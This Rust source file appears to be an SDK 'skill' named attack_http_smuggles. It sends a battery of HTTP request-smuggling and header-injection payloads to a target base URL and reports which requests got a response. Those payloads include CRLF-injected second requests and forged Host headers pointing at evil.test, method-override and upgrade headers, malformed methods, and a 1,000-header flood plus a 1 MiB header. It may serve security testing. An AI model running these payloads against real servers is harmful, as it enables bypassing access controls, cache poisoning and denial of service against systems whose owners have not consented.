//! Writes requests with other requests in them: lines in paths and headers, headers that are the host's own, floods.

use ringfence_sdk::http::Request;
use ringfence_sdk::prelude::*;

const PATHS: [&str; 6] =
    ["a\r\nHost: evil.test\r\n\r\nGET /closed", "a\nx: y", "a HTTP/1.1", "a\tb", "a\0b", "a\u{85}b"];

const HEADERS: [(&str, &str); 22] = [
    ("Host", "evil.test"),
    ("hOsT", "evil.test"),
    ("Content-Length", "0"),
    ("Transfer-Encoding", "chunked"),
    ("TE", "trailers"),
    ("Trailer", "x"),
    ("Connection", "keep-alive, x"),
    ("Keep-Alive", "timeout=600"),
    ("Upgrade", "h2c"),
    ("HTTP2-Settings", "AAMAAABk"),
    ("Expect", "100-continue"),
    ("Proxy-Authorization", "Basic eA=="),
    ("Proxy-Connection", "keep-alive"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Forwarded-For", "10.0.0.1"),
    ("Accept-Encoding", "gzip"),
    ("x", "a\r\nHost: evil.test"),
    ("x", "a\n b"),
    ("x\r\nHost", "evil.test"),
    ("x: y\r\nz", "z"),
    ("", "x"),
    ("Host ", "evil.test"),
];

/// Sends them all, and says what it got hold of.
#[skill]
fn attack_http_smuggles(base: String, http: Http) -> Result<Vec<String>> {
    let get = |path: &str| Request::new("GET", format!("{base}/{path}"));
    let paths = PATHS.into_iter().map(get);
    let headers = HEADERS.into_iter().map(|(name, value)| get("a").header(name, value));
    let many = (0..1_000).fold(get("a"), |ask, number| ask.header(format!("x-{number}"), "y"));
    let long = get("a").header("x", "y".repeat(1 << 20));
    let methods = ["get", "GET /closed HTTP/1.1\r\n\r\nGET", "CONNECT", "TRACE", ""];
    let methods = methods.map(|method| Request::new(method, format!("{base}/a")));
    let asks = paths.chain(headers).chain([many, long, get("a").body("GET /closed")]).chain(methods);
    Ok(asks.filter_map(|ask| http.send(ask).ok().map(|response| response.url)).collect())
}
